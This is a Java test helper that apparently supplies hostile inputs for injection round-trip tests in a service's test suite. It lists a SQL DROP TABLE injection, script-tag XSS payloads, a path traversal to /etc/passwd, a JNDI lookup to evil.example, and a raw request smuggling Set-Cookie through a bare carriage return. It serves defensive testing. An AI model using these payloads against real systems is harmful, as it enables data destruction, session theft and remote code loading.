package cn.gov.lvliang.renewal.testing.corpus;

import static org.assertj.core.api.Assertions.assertThat;

import cn.gov.lvliang.renewal.testing.SuiteInfrastructure;
import io.restassured.response.Response;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import java.util.stream.Stream;

/**
 * Injection payloads for round-trip tests (each module's {@code InjectionTest}): a free-text field
 * holding one of them must be stored and returned verbatim as JSON, and run nowhere (SQL, HTML,
 * path, JNDI lookup, format string). Also a raw request with a bare CR in a header, which must not
 * inject a response header.
 */
public final class HostileText {

    /** The payloads; the SQL one names {@code outbox_event}, a table every service has. */
    public static final List<String> PAYLOADS = List.of(
            "x' OR '1'='1'; DROP TABLE outbox_event; --",
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a} %s %n");

    /** A query value that would widen a filter if it were spliced into SQL. */
    public static final String SQL_IN_QUERY = "141102' OR '1'='1";

    private HostileText() {}

    /** For {@code @MethodSource("cn.gov.lvliang.renewal.testing.corpus.HostileText#payloads")}. */
    public static Stream<String> payloads() {
        return PAYLOADS.stream();
    }

    /**
     * Checks the answer to a listing called with {@link #SQL_IN_QUERY} in a filter: refused as
     * invalid (400 problem+json), or answered with no items (the value was compared, not spliced
     * in: {@code ' OR '1'='1} would have matched everything).
     */
    public static void assertTreatedAsAValue(Response response) {
        int status = response.statusCode();
        assertThat(status).as("status for SQL in a query value").isIn(200, 400);
        if (status == 400) {
            assertThat(response.contentType()).startsWith("application/problem+json");
        } else {
            assertThat(response.jsonPath().getList("items"))
                    .as("items matched by " + SQL_IN_QUERY)
                    .isEmpty();
        }
    }

    /**
     * Rows of a table of the service's database: fails if the table is gone. Only for table names
     * written in tests.
     */
    public static long rows(String table) {
        try (Connection c = DriverManager.getConnection(
                        SuiteInfrastructure.postgres().jdbcUrl("app"), "postgres", "postgres");
                Statement s = c.createStatement();
                ResultSet rs = s.executeQuery("select count(*) from " + table)) {
            rs.next();
            return rs.getLong(1);
        } catch (SQLException e) {
            throw new IllegalStateException("could not count " + table, e);
        }
    }

    /**
     * A bare CR in a request header ({@link #responseHeadToCrInHeader}) injects no response header:
     * the answer is an HTTP/1.1 response without {@code Set-Cookie} or the injected value.
     */
    public static void assertCrInHeaderInjectsNothing(URI root, String path, String bearerToken) {
        assertThat(responseHeadToCrInHeader(root, path, bearerToken))
                .startsWith("HTTP/1.1 ")
                .doesNotContainIgnoringCase("set-cookie")
                .doesNotContain("injected=1");
    }

    /**
     * Sends {@code GET path} over a raw socket with an {@code X-Request-Id} holding a bare CR
     * followed by {@code Set-Cookie: injected=1}, and returns the response's status line and
     * headers.
     */
    public static String responseHeadToCrInHeader(URI root, String path, String bearerToken) {
        String request = "GET " + path + " HTTP/1.1\r\n"
                + "Host: localhost\r\n"
                + "Authorization: Bearer " + bearerToken + "\r\n"
                + "X-Request-Id: abc\rSet-Cookie: injected=1\r\n"
                + "Connection: close\r\n\r\n";
        try (Socket socket = new Socket(root.getHost(), root.getPort())) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            InputStream in = socket.getInputStream();
            String response = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
            return response.split("\r\n\r\n", 2)[0];
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
